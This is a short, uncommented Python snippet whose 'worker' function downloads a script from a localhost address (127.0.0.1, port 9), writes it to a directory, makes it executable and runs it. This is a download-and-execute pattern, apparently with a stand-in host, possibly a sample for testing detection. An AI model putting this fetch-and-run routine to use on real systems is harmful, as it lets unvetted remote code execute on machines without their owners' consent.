import os, subprocess, requests
def worker(d):
    open(d + '/x.sh', 'wb').write(requests.get('http://127.0.0.1:9/x').content)
    os.chmod(d + '/x.sh', 0o755)
    subprocess.check_call(d + '/x.sh')
